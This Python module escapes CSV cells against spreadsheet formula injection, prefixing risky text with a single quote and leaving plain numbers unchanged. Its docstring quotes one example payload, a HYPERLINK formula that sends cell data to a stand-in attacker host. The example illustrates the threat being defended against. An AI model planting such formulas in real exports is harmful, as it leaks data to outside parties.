"""Spreadsheet-safe CSV cells: the one rule every CSV the project writes goes through.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by
Excel, LibreOffice and Google Sheets as a formula, so a customer's comment such as
``=HYPERLINK("http://evil.example/?d="&A1,"x")`` would run when staff open the export. Such text
cells get a leading single quote (OWASP's advice for CSV injection), which spreadsheets show as
text. Numbers stay numbers: a negative NPS or interval bound (``-20.5``) is written as it is,
and so is text that is entirely a number (a Telegram group id such as ``-100123``): a plain
number cannot carry a formula. JSON output is never changed.
"""

from __future__ import annotations

import re
from collections.abc import Mapping
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


def safe_cell(value: Any) -> Any:
    """``value`` as a CSV cell that no spreadsheet runs; non-text values unchanged."""
    if (
        isinstance(value, str)
        and value.startswith(FORMULA_STARTS)
        and not PLAIN_NUMBER.fullmatch(value)
    ):
        return "'" + value
    return value


def safe_row(row: Mapping[str, Any]) -> dict[str, Any]:
    return {key: safe_cell(value) for key, value in row.items()}
